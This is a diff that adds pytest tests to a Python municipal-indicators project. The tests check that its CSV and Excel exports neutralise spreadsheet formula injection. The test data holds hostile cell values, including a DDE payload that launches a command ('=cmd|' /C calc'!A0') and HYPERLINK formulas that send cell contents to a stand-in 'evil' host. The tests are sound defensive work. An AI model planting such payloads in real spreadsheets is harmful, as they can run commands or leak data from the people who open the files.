@@ -2,15 +2,18 @@
 
 from __future__ import annotations
 
+import csv
 import io
 
 import openpyxl
 import pandas as pd
 import pytest
 
-from nokkeltall import queries
+from nokkeltall import queries, spreadsheet
 from nokkeltall.compare import export
 from nokkeltall.compare import figures as compare_figures
+from nokkeltall.plan import calendar, timeline
+from nokkeltall.profile import small_municipalities
 
 
 def test_file_names_follow_municipalities_and_indicator():
@@ -51,3 +54,57 @@ def test_png_export_is_a_png(con):
     finally:
         export.stop_kaleido()
     assert data[:8] == b"\x89PNG\r\n\x1a\n" and len(data) > 5000
+
+
+# --- formula injection (issue 17.4) ---------------------------------------------------------------
+
+HOSTILE_CELLS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil/?x="&A1,"Klikk")', "+1+1", "-2+3", "@SUM(A1)",
+                 "\t=1+1", "\r=1+1"]
+
+
+def hostile_table() -> pd.DataFrame:
+    return pd.DataFrame({"Hendelse": HOSTILE_CELLS, "Verdi": [-3, -2.5, 0, 1, 2, 3, 4],
+                         "Tekst": ["vanlig", "Træna", "–1 (tankestrek)", "a=b", "", None, "1835"]})
+
+
+def sheet_cells(data: bytes) -> list:
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    return [cell for cell in cells if cell.value is not None]
+
+
+def test_cells_that_start_like_formulas_are_text_and_numbers_stay_numbers():
+
+    safe = spreadsheet.safe_cells(hostile_table())
+    assert safe["Hendelse"].tolist() == ["'" + value for value in HOSTILE_CELLS]
+    assert safe["Verdi"].tolist() == [-3, -2.5, 0, 1, 2, 3, 4] and safe["Verdi"].dtype.kind == "f"
+    assert safe["Tekst"].tolist()[:5] == ["vanlig", "Træna", "–1 (tankestrek)", "a=b", ""]
+    text = spreadsheet.csv_bytes(hostile_table()).decode("utf-8-sig")
+    assert "'=cmd|' /C calc'!A0" in text and ";-3,0;" in text  # the negative number is a number
+    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
+    assert all(float(cell.replace(",", ".")) < 0 for cell in cells if cell.startswith("-"))  # only numbers
+
+
+@pytest.mark.parametrize("writer", ["workbook", "overview"])
+def test_excel_writes_strings_as_strings_never_formulas(writer):
+    """Before: xlsxwriter turned every string starting with «=» into a live formula."""
+
+    data = export.workbook_bytes({"Tabell": hostile_table()}, pd.DataFrame({"Kilde": ["=Kilde"]})) \
+        if writer == "workbook" else small_municipalities.to_excel(hostile_table(), source="=Kilde")
+    cells = sheet_cells(data)
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a formula in the workbook"
+    values = [cell.value for cell in cells]
+    assert "'=cmd|' /C calc'!A0" in values and "'=Kilde" in values
+    assert -3 in values and -2.5 in values  # numbers stay numbers
+
+
+def test_a_milestone_titled_like_a_formula_is_text_in_the_timeline_csv():
+
+    legal = calendar.calendar_frame(calendar.legal_calendar(2024, 2028))
+    milestone = {"plan_type": "planstrategi", "title": '=HYPERLINK("http://evil")',
+                 "start_date": "2027-01-15", "end_date": None, "status": "planlagt", "note": ""}
+    text = spreadsheet.csv_bytes(timeline.timeline_table(legal, [milestone])).decode("utf-8-sig")
+    assert "'=HYPERLINK" in text
+    rows = csv.reader(io.StringIO(text, newline=""), delimiter=";")
+    assert not any(cell.startswith("=") for row in rows for cell in row)
